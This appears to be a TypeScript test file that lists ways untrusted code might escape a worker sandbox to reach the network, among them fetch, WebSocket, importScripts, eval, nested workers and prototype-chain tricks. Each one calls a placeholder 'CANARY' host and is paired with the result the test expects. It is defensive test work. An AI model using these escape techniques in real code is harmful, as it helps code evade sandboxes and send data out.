/** Ways to the network: none leads there, and each is said. */
import { attempt, type Escape, inside, THREW, WRONG } from './types.ts';

const URL = "'http://CANARY/'";

export const NETWORK: readonly Escape[] = [
  attempt('fetch', inside(`fetch(${URL})`), 'network'),
  attempt('fetch, its refusal caught', inside(`try { await fetch(${URL}) } catch {}`), 'network'),
  attempt('fetch, its stand-in deleted', inside(`delete self.fetch; await fetch(${URL})`), 'network', ...THREW),
  attempt(
    'fetch, from a prototype of the global object',
    inside(
      `for (let at = self; at; at = Object.getPrototypeOf(at)) { const own = Object.getOwnPropertyDescriptor(at, 'fetch');
      try { await own?.value.call(self, ${URL}) } catch {} }`,
    ),
    'network',
  ),
  attempt(
    'fetch, after the function has returned',
    `function double(xs) { setTimeout(() => fetch(${URL}), 0); Promise.resolve().then(() => fetch(${URL})); return []; }`,
    'network',
  ),
  attempt('XMLHttpRequest', inside(`const q = new XMLHttpRequest(); q.open('GET', ${URL}); q.send()`), 'network'),
  attempt('WebSocket', inside("new WebSocket('ws://CANARY/')"), 'network'),
  attempt('WebTransport', inside("new WebTransport('https://CANARY/')"), 'network'),
  attempt('EventSource', inside(`new EventSource(${URL})`), 'network'),
  attempt('RTCPeerConnection', inside("new RTCPeerConnection({ iceServers: [{ urls: 'stun:CANARY' }] })"), 'network'),
  attempt('importScripts', inside(`importScripts(${URL})`), 'network'),
  attempt('importScripts, at the top of the program', `importScripts(${URL});\n${inside('')}`, 'network'),
  attempt('import()', inside(`try { await import(${URL}) } catch {}`), 'network'),
  attempt('import() of a script in its own address', inside("await import('data:text/javascript,1')"), 'network'),
  attempt('import', `import x from ${URL};\n${inside('')}`, 'import'),
  attempt('export from', `export * from ${URL};\n${inside('')}`, 'import'),
  attempt('sendBeacon', inside(`navigator.sendBeacon(${URL}, 'x')`), ...THREW),
  attempt('an image', inside(`new Image().src = ${URL}`), ...THREW),
  attempt('a font', inside(`await new FontFace('f', "url(http://CANARY/f.woff2)").load()`), 'network', ...THREW),
  attempt(
    'a worker in the worker',
    inside(`new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/')"])))`),
    'network',
    ...THREW,
  ),
  attempt('a worker shared with others', inside(`new SharedWorker(${URL})`), ...THREW),
  attempt('a service worker', inside(`await navigator.serviceWorker.register(${URL})`), ...THREW),
  attempt(
    'a module of WebAssembly that is fetched',
    inside(`WebAssembly.compileStreaming(fetch(${URL}))`),
    'network',
    ...THREW,
  ),
  attempt('code made from text', inside(`new Function("fetch('http://CANARY/')")()`), ...THREW),
  attempt('code evaluated', inside(`(0, eval)("fetch('http://CANARY/')")`), ...THREW),
  attempt('code of a timer, as text', inside(`setTimeout("fetch('http://CANARY/')", 0)`), WRONG, ...THREW),
  attempt('the map of its source', `${inside('')}\n//# sourceMappingURL=http://CANARY/map`, WRONG),
];
